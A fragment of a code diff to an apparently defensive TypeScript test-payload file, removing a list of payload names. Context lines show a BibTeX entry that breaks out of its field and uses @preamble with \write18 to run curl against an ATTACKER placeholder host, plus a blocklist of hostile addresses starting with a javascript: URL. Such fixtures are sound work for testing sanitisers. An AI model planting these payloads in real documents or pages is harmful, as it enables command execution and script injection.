@@ -52,9 +52,6 @@ export const PAYLOADS: Readonly<Record<string, string>> = {
   'BibTeX entry': `} , note = {x} } @preamble{"\\write18{curl ${ATTACKER}}"} @comment{ @string{a = "b"}`,
 };
 
-/** The names of the payloads. */
-export const PAYLOAD_NAMES = Object.keys(PAYLOADS);
-
 /** Addresses that no page may link to as they are. */
 export const HOSTILE_ADDRESSES = [
   `javascript:${ATTACK}`,
